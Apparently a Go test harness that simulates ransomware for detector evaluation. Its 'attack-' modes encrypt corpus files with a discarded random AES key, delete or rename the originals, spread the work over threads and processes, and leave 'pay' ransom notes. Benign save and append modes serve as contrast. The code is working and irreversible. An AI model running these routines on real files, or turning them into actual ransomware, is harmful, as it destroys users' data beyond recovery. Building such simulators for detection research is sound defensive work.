package main

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"

	"golang.org/x/sys/unix"
)

// The bulk ways do the same to all documents of a corpus: those that begin with
// attack- what ransomware does, in the ways that there are; the others what looks
// like it to whoever sees only the calls.
func init() {
	for name, do := range map[string]func(){
		"corpus": corpus,

		"attack-replace":        func() { each(func(f string) { write(f+".aes", encrypt(read(f))); check(os.Remove(f)) }) },
		"attack-in-place":       func() { each(overwrite) },
		"attack-rename-after":   renameAfter,
		"attack-rename-before":  func() { each(func(f string) { check(os.Rename(f, f+".locked")); overwrite(f + ".locked") }) },
		"attack-temporary":      func() { each(func(f string) { save(f, encrypt(read(f))) }) },
		"attack-truncate":       func() { each(func(f string) { write(f, encrypt(read(f))) }) },
		"attack-map":            func() { each(overwriteMapped) },
		"attack-staged":         staged,
		"attack-other-ending":   otherEnding,
		"attack-random-names":   randomNames,
		"attack-beginning":      func() { each(overwriteBeginning) },
		"attack-threads":        attackThreads,
		"attack-processes":      func() { byProcesses("attack-one") },
		"attack-one":            func() { f := os.Getenv("DOCUMENT"); write(f+".enc", encrypt(read(f))); check(os.Remove(f)) },
		"attack-like-gzip":      func() { each(func(f string) { write(f+".gz", encrypt(read(f))); check(os.Remove(f)) }) },
		"attack-base64":         func() { each(func(f string) { save(f, []byte(base64.StdEncoding.EncodeToString(encrypt(read(f))))) }) },
		"attack-note-only":      func() { notes("README_TO_RESTORE.txt") },
		"attack-remove-rewrite": func() { each(func(f string) { b := read(f); check(os.Remove(f)); write(f, encrypt(b)) }) },

		"save":          func() { each(func(f string) { save(f, plain(read(f))) }) },
		"save-in-place": func() { each(func(f string) { write(f, plain(read(f))) }) },
		"append":        appendAll,
	} {
		ways[name] = do
	}
}

// encrypt is AES in counter mode with a key that nobody has.
func encrypt(b []byte) []byte {
	key := make([]byte, 32)
	_, err := rand.Read(key)
	check(err)
	block, err := aes.NewCipher(key)
	check(err)
	out := make([]byte, len(b))
	cipher.NewCTR(block, key[:block.BlockSize()]).XORKeyStream(out, b)
	return out
}

// overwrite encrypts a file where it is.
func overwrite(name string) {
	f, err := os.OpenFile(name, os.O_RDWR, 0)
	check(err)
	b := make([]byte, size0(f))
	_, err = f.ReadAt(b, 0)
	check(err)
	_, err = f.WriteAt(encrypt(b), 0)
	check(err)
	check(f.Close())
}

// overwriteBeginning encrypts 1 KiB, which is enough to make a document useless.
func overwriteBeginning(name string) {
	f, err := os.OpenFile(name, os.O_RDWR, 0)
	check(err)
	b := make([]byte, min(size0(f), 1024))
	_, err = f.ReadAt(b, 0)
	check(err)
	_, err = f.WriteAt(encrypt(b), 0)
	check(err)
	check(f.Close())
}

func size0(f *os.File) int64 {
	info, err := f.Stat()
	check(err)
	return info.Size()
}

func overwriteMapped(name string) {
	f, err := os.OpenFile(name, os.O_RDWR, 0)
	check(err)
	b, err := unix.Mmap(int(f.Fd()), 0, int(size0(f)), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	check(err)
	copy(b, encrypt(b))
	check(unix.Munmap(b))
	check(f.Close())
}

// renameAfter encrypts in place, then renames, and leaves a note in every directory.
func renameAfter() {
	each(func(f string) {
		overwrite(f)
		check(os.Rename(f, f+".locked"))
		note := filepath.Join(filepath.Dir(f), "HOW_TO_RECOVER.txt")
		if _, err := os.Stat(note); err != nil {
			write(note, []byte("pay\n"))
		}
	})
}

// save replaces a file as editors do.
func save(name string, b []byte) {
	write(name+".tmp", b)
	check(os.Rename(name+".tmp", name))
}

// staged makes its documents itself, and replaces them then, as simulators do.
func staged() {
	check(os.MkdirAll("staged", 0o755))
	for i := range documents {
		write(fmt.Sprintf("staged/file%d.docx", i), []byte(strings.Repeat("words ", 500)))
	}
	for i := range documents {
		f := fmt.Sprintf("staged/file%d.docx", i)
		write(f+".enc", encrypt(read(f)))
		check(os.Remove(f))
	}
	write("staged/note.txt", []byte("pay\n"))
}

// otherEnding takes the ending of the document away: a.txt becomes a.crypt.
func otherEnding() {
	each(func(f string) {
		write(strings.TrimSuffix(f, filepath.Ext(f))+".crypt", encrypt(read(f)))
		check(os.Remove(f))
	})
}

// randomNames leaves nothing of the name.
func randomNames() {
	each(func(f string) {
		b := make([]byte, 8)
		_, err := rand.Read(b)
		check(err)
		write(filepath.Join(filepath.Dir(f), hex.EncodeToString(b)+".vault"), encrypt(read(f)))
		check(os.Remove(f))
	})
}

func attackThreads() {
	var names []string
	each(func(f string) { names = append(names, f) })
	threads(8, func(i int) {
		for k := i; k < len(names); k += 8 {
			overwrite(names[k])
			check(os.Rename(names[k], names[k]+".locked"))
		}
	})
}

// byProcesses runs this program once for each document, eight at a time.
func byProcesses(way string) {
	self, err := os.Executable()
	check(err)
	var wg sync.WaitGroup
	slots := make(chan bool, 8)
	each(func(f string) {
		slots <- true
		wg.Go(func() {
			cmd := exec.Command(self, ".", way)
			cmd.Env = append(os.Environ(), "DOCUMENT="+f)
			check(cmd.Run())
			<-slots
		})
	})
	wg.Wait()
}

func notes(name string) {
	for i := range directories {
		write(fmt.Sprintf("d%d/%s", i, name), []byte("pay\n"))
	}
}

func appendAll() {
	each(func(name string) {
		f, err := os.OpenFile(name, os.O_WRONLY|os.O_APPEND, 0)
		check(err)
		_, err = f.WriteString("one more line\n")
		check(err)
		check(f.Close())
	})
}
